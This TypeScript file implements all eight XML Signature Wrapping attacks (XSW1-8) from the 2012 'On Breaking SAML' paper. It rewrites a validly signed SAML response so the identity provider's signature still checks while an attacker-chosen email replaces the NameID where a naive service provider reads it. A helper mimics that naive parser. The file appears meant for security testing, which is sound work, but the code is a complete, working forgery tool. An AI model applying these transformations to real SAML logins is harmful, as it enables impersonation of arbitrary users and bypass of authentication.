// The eight XML Signature Wrapping layouts from Somorovsky et al., "On Breaking SAML: Be Whoever
// You Want to Be" (USENIX Security 2012), as catalogued by the SAML Raider tool, applied to a
// validly signed response. Each keeps the IdP's signature valid over the original element while
// putting attacker-chosen content where a naive SP reads from. XSW1-2 target a Response signature,
// XSW3-8 an Assertion signature.
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

export const XSW_VARIANTS = ['XSW1', 'XSW2', 'XSW3', 'XSW4', 'XSW5', 'XSW6', 'XSW7', 'XSW8'] as const;
export type XswVariant = (typeof XSW_VARIANTS)[number];

const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DS = 'http://www.w3.org/2000/09/xmldsig#';

export function applyXsw(variant: XswVariant, xml: string, attackerEmail: string): string {
  const doc = new DOMParser().parseFromString(xml, 'text/xml');
  const response = doc.documentElement!;
  const assertion = childNs(response, SAML, 'Assertion');
  const evilize = (el: Element) => {
    for (const n of Array.from(el.getElementsByTagNameNS(SAML, 'NameID'))) n.textContent = attackerEmail;
  };

  switch (variant) {
    case 'XSW1':
    case 'XSW2': {
      // Unsigned copy of the original Response hidden inside (1) or next to (2) its signature; the
      // outer Response gets a new ID and the attacker's values.
      const signature = childNs(response, DS, 'Signature');
      const original = response.cloneNode(true) as Element;
      original.removeChild(childNs(original, DS, 'Signature'));
      evilize(response);
      response.setAttribute('ID', '_evil_response');
      if (variant === 'XSW1') signature.appendChild(original);
      else response.insertBefore(original, signature);
      break;
    }
    case 'XSW3':
    case 'XSW4': {
      // A forged, unsigned assertion before (3) or wrapping (4) the untouched signed one.
      const evil = unsignedCopy(assertion, '_evil_assertion');
      evilize(evil);
      response.insertBefore(evil, assertion);
      if (variant === 'XSW4') evil.appendChild(assertion);
      break;
    }
    case 'XSW5':
    case 'XSW6': {
      // The signed assertion is forged in place (keeping its Signature, with a new ID); an unsigned
      // copy of the original, which the signature's reference now resolves to, goes to the end of
      // the Response (5) or inside the Signature (6).
      const copy = unsignedCopy(assertion, assertion.getAttribute('ID')!);
      evilize(assertion);
      assertion.setAttribute('ID', '_evil_assertion');
      if (variant === 'XSW5') response.appendChild(copy);
      else childNs(assertion, DS, 'Signature').appendChild(copy);
      break;
    }
    case 'XSW7': {
      // A forged assertion with the same ID inside samlp:Extensions (a schema-sanctioned any-content
      // slot), placed first in document order.
      const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions');
      response.insertBefore(extensions, childNs(response, SAMLP, 'Status'));
      const evil = unsignedCopy(assertion, assertion.getAttribute('ID')!);
      evilize(evil);
      extensions.appendChild(evil);
      break;
    }
    case 'XSW8': {
      // The signed assertion is forged in place; the original, unsigned, sits in a ds:Object inside
      // the forged assertion's own Signature.
      const copy = unsignedCopy(assertion, assertion.getAttribute('ID')!);
      evilize(assertion);
      const object = doc.createElementNS(DS, 'ds:Object');
      childNs(assertion, DS, 'Signature').appendChild(object);
      object.appendChild(copy);
      break;
    }
  }
  return new XMLSerializer().serializeToString(doc);
}

/** What a naive SP reads: Response/Assertion/Subject/NameID, taking the first match at each step. */
export function naiveNameId(xml: string): string | null {
  const response = new DOMParser().parseFromString(xml, 'text/xml').documentElement!;
  const subject = childNs(childNs(response, SAML, 'Assertion'), SAML, 'Subject');
  return childNs(subject, SAML, 'NameID').textContent;
}

function unsignedCopy(assertion: Element, id: string): Element {
  const copy = assertion.cloneNode(true) as Element;
  copy.removeChild(childNs(copy, DS, 'Signature'));
  copy.setAttribute('ID', id);
  return copy;
}

function childNs(parent: Element, ns: string, localName: string): Element {
  for (let n = parent.firstChild; n; n = n.nextSibling) {
    const el = n as Element;
    if (n.nodeType === 1 && el.namespaceURI === ns && el.localName === localName) return el;
  }
  throw new Error(`no ${localName} under ${parent.localName}`);
}
